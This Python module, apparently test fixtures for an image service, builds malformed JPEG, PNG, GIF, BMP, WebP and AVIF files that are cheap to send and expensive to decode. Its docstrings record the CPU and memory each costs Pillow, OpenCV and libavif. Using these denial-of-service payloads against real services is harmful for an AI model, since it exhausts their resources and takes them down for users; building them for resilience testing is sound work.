"""Pictures that are cheap to send and dear to decode.

Each is of at most 25 megapixels and 10 MB, which the service reads. Costs are of one processor and Pillow 13 alone.
"""

import io
import struct
import zlib
from collections.abc import Callable
from functools import cache

import numpy as np
from PIL import Image


def jpeg_of_exif_segments(segments: int = 800_000) -> bytes:
    """A JPEG with so many Exif segments of two bytes. Pillow joins them one by one, and copies all before each.

    40,000 of them, half a MB: 0.2 s; 800,000, 10 MB: 43 s, on whichever thread opens it.
    """
    plain = _encoded(_noise(28, 28), "JPEG")
    return plain[:2] + _segment(0xE1, b"Exif\0\0II") * segments + plain[2:]


def jpeg_of_comments(segments: int = 2_500_000) -> bytes:
    """A JPEG with so many empty comments. 10 MB of them: 1.8 s and 180 MB, on whichever thread opens it."""
    plain = _encoded(_noise(28, 28), "JPEG")
    return plain[:2] + _segment(0xFE, b"") * segments + plain[2:]


def jpeg_of_scans(scans: int = 300, width: int = 5000, height: int = 5000) -> bytes:
    """A progressive JPEG of so many scans of a few bytes, each of which visits all pixels and changes none.

    25 megapixels: 15 ms a scan; 300 of them, 110 kB: 4.4 s; 60,000 scans, 1 MB: 15 minutes.
    """
    plain = _encoded(Image.new("L", (width, height), 128), "JPEG", progressive=True)
    # Each scan refines the last bit of no coefficient: one code for 32,767 blocks that have nothing to refine.
    runs = -(-(-(-width // 8) * -(-height // 8)) // 32_767)
    bits = ("0" + "1" * 14) * runs
    bits += "1" * (-len(bits) % 8)
    packed = int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\0")
    table = _segment(0xC4, bytes([0x10, 1, *[0] * 15, 0xE0]))
    scan = _segment(0xDA, bytes([1, 1, 0, 1, 63, 0x10])) + packed
    return plain[:-2] + table + scan * scans + plain[-2:]


def png_of_text(chunks: int = 500_000) -> bytes:
    """A PNG with so many text chunks, each of another name: 10 MB: 1 s, on whichever thread opens it."""
    return _png(b"".join(_chunk(b"tEXt", b"%07d\0" % number) for number in range(chunks)))


def png_of_profiles(chunks: int = 8_000) -> bytes:
    """A PNG with so many colour profiles of 1 MB, compressed to 1 kB. 8 MB of them: 4.5 s, where it is opened."""
    return _png(_chunk(b"iCCP", b"x\0\0" + _compressed_zeros(1 << 20)) * chunks)


def png_of_orientations(chunks: int = 100) -> bytes:
    """A PNG with so many chunks that say which way is up, each of which would be inflated: 1 ms each."""
    return with_chunks(_png(b""), *[(b"zTXt", b"Raw profile type exif\0\0" + _compressed_zeros(1 << 20))] * chunks)


def png_of_empty_data(chunks: int = 800_000) -> bytes:
    """A PNG whose pixels follow so many empty IDAT chunks. 10 MB of them: 0.5 s."""
    return _png(_chunk(b"IDAT", b"") * chunks)


def png_that_inflates(megabytes: int = 5_000, side: int = 28) -> bytes:
    """A PNG whose compressed pixels go on for so many MB behind the last row; 5 GB are 5 MB.

    OpenCV, which inflates them to the end, takes 4.5 s.
    """
    whole = zlib.compressobj(9)
    pixels = whole.compress(bytes(side * (side + 1))) + whole.flush(zlib.Z_FULL_FLUSH)
    block = zlib.compressobj(9, wbits=-15)
    zeros = block.compress(bytes(1 << 20)) + block.flush(zlib.Z_FULL_FLUSH)
    return _png(b"", pixels + zeros * megabytes + b"\x03\0" + bytes(4), side)


def png_of_exif_tags(tags: int = 5_000) -> bytes:
    """A small PNG with so many Exif tags that lie outside of it: Pillow warns of each, in a text that Python keeps."""
    entries = b"".join(struct.pack("<HHII", 0x1000 + tag, 2, 1_000_000 + tag, 8) for tag in range(tags))
    return _png(_chunk(b"eXIf", b"II*\0\x08\0\0\0" + struct.pack("<H", tags) + entries + bytes(4)))


def gif_of_comments(blocks: int = 3_300_000) -> bytes:
    """A GIF with so many empty comments before its picture. 10 MB of them: 0.6 s, on whichever thread opens it."""
    return _gif(b"!\xfe\0" * blocks)


def gif_of_nothing(size: int = 10_000_000) -> bytes:
    """A GIF with so many bytes that mean nothing before its picture. 10 MB: 0.6 s, on whichever thread opens it."""
    return _gif(bytes(size))


def bmp_of_line_ends(ends: int = 5_000_000) -> bytes:
    """A run-length encoded BMP that ends its first line so many times. 10 MB: 1 s in a loop of Python's."""
    return _bmp(28, 28, b"\0\0" * ends)


def bmp_of_short_lines(side: int = 5000) -> bytes:
    """A run-length encoded BMP whose lines say one pixel: 20 kB are filled up byte by byte, 25 million times: 2 s."""
    return _bmp(side, side, b"\1\1\0\0" * side)


def webp_of_one_colour(side: int = 5000) -> bytes:
    """A WebP of one colour: 25 megapixels in some 40 bytes. Pillow takes 0.5 s and 500 MB."""
    return _encoded(Image.new("RGBA", (side, side), (200, 30, 30, 128)), "WEBP", lossless=True, quality=0, method=0)


def webp_of_chunks(chunks: int = 1_200_000) -> bytes:
    """A WebP with so many empty chunks of no known kind. 10 MB of them: 100 ms and 50 MB."""
    canvas = struct.pack("<I", 0) + struct.pack("<I", 27)[:3] + struct.pack("<I", 27)[:3]
    pixels = _encoded(_noise(28, 28), "WEBP")[12:]
    body = b"WEBP" + b"VP8X" + struct.pack("<I", 10) + canvas + pixels + b"NONE\0\0\0\0" * chunks
    return b"RIFF" + struct.pack("<I", len(body)) + body


def avif_of_items(items: int = 60_000) -> bytes:
    """An AVIF whose head names so many items, each of which libavif looks for among those before it: 9 s."""
    plain = _encoded(_noise(28, 28), "AVIF")
    place = plain.index(b"iloc") - 4
    entries = b"".join(struct.pack(">HHHII", 2 + item % 65_000, 0, 1, 0, 0) for item in range(items))
    location = _box(b"iloc", b"\0\0\0\0" + b"\x44\0" + struct.pack(">H", min(items, 65_535)) + entries)
    return _with_box(plain, place, location)


def avif_of_boxes(boxes: int = 1_000_000) -> bytes:
    """An AVIF followed by so many empty boxes. 8 MB of them: 20 ms."""
    return _encoded(_noise(28, 28), "AVIF") + _box(b"free", b"") * boxes


def avif_of_frames(size: int = 10_000_000) -> bytes:
    """An AVIF with so many bytes that could list frames, where 100 kB list 10,000. Nothing, with this content."""
    return _encoded(_noise(28, 28), "AVIF") + _box(b"moov", _box(b"free", bytes(size)))


Attack = Callable[[], bytes]

ALL: tuple[Attack, ...] = (
    jpeg_of_exif_segments,
    jpeg_of_comments,
    jpeg_of_scans,
    png_of_text,
    png_of_profiles,
    png_of_orientations,
    png_of_empty_data,
    png_that_inflates,
    png_of_exif_tags,
    gif_of_comments,
    gif_of_nothing,
    bmp_of_line_ends,
    bmp_of_short_lines,
    webp_of_one_colour,
    webp_of_chunks,
    avif_of_items,
    avif_of_boxes,
    avif_of_frames,
)
# Nothing is odd about them but their pixels.
DEAR_TO_DECODE = (bmp_of_line_ends, bmp_of_short_lines, webp_of_one_colour)


def with_chunks(png: bytes, *chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG with more chunks of that kind and content before its pixels."""
    return png[:33] + b"".join(_chunk(kind, content) for kind, content in chunks) + png[33:]


def _encoded(image: Image.Image, form: str, **options: object) -> bytes:
    content = io.BytesIO()
    image.save(content, form, **options)
    return content.getvalue()


def _noise(width: int, height: int) -> Image.Image:
    return Image.fromarray(np.random.default_rng(0).integers(0, 256, (height, width, 3), np.uint8))


@cache
def _compressed_zeros(size: int) -> bytes:
    return zlib.compress(bytes(size), 9)


def _segment(marker: int, content: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _png(before: bytes, packed: bytes | None = None, side: int = 28) -> bytes:
    """Grey, with chunks before its pixels; black where nothing is said of them."""
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
    pixels = _chunk(b"IDAT", _compressed_zeros(side * (side + 1)) if packed is None else packed)
    return b"\x89PNG\r\n\x1a\n" + head + before + pixels + _chunk(b"IEND", b"")


def _gif(before: bytes) -> bytes:
    """28×28, with whatever before its picture."""
    plain = _encoded(Image.new("L", (28, 28)), "GIF")
    place = plain.index(b",", 13 + 3 * (2 << (plain[10] & 7)))
    return plain[:place] + before + plain[place:]


def _bmp(width: int, height: int, packed: bytes) -> bytes:
    """256 greys, run-length encoded."""
    palette = b"".join(bytes([grey, grey, grey, 0]) for grey in range(256))
    offset = 14 + 40 + len(palette)
    head = b"BM" + struct.pack("<IHHI", offset + len(packed), 0, 0, offset)
    head += struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(packed), 0, 0, 256, 0)
    return head + palette + packed


def _box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", 8 + len(content)) + kind + content


def _with_box(plain: bytes, place: int, box: bytes) -> bytes:
    """An AVIF with another box in the place of the one there, in its `meta`."""
    old = int.from_bytes(plain[place : place + 4], "big")
    meta = plain.index(b"meta") - 4
    size = int.from_bytes(plain[meta : meta + 4], "big") - old + len(box)
    return plain[:meta] + struct.pack(">I", size) + plain[meta + 4 : place] + box + plain[place + old :]
